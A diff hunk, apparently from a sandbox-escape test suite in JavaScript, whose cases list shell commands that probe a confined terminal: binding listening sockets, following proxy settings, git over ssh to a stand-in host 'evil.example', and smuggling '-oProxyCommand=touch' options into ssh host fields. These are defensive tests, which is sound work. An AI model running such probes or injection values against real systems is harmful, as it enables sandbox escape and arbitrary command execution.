@@ -98,7 +98,7 @@ for p in (14128,${GIT_SSH}):
       s=socket.socket(10 if ":" in where else 2); s.setsockopt(1,2,1); s.setsockopt(1,15,1); s.bind((where,p)); s.listen(); print(where,p,"listens beside ours, inside")
     except OSError as e: print(e)`)}
 done`,
-  'a program the owner’s own proxy settings lead to': `env | grep -i proxy | grep -v 127.0.0.1 | grep -v localhost && ${WON}; true`,
+  'a program the owner’s own proxy settings lead to': `env | grep -i _proxy= | grep -v USE_ENV | grep -v 127.0.0.1 | grep -v localhost && ${WON}; true`,
   'git over ssh to another host': { only: 'attended', tries: (terminal, world) => withRemote(terminal, world, `git clone git@evil.example:x/y.git; git remote set-url origin git@evil.example:x/y.git; git fetch origin; ${shim('git@evil.example', "git-upload-pack '\\''x/y.git'\\''")}`) },
   'git over ssh to another repository of the same host': { only: 'attended', tries: (terminal, world) => withRemote(terminal, world, `git clone git@good.example:other/repo.git; git clone root@good.example:one/two.git; git clone ssh://git@good.example:2222/one/two.git; git push git@good.example:other/repo.git main`) },
   'options of ssh in the place of a host': { only: 'attended', tries: (terminal, world) => withRemote(terminal, world, [shim(`-oProxyCommand=touch ${mark}`, 'git@good.example', "git-upload-pack '\\''one/two.git'\\''"), shim('-o', `ProxyCommand=touch ${mark}`, 'git@good.example', 'x'), shim('-F', `${project}/c`, 'git@good.example', 'x'), shim('-L', '8080:localhost:80', 'git@good.example', 'x'), shim('-W', 'localhost:22', 'git@good.example'), shim(`--`, `-oProxyCommand=touch ${mark}`, 'x'), `git clone ssh://-oProxyCommand=touch%20${mark.replaceAll('/', '%2f')}/x`].join('; ')) },
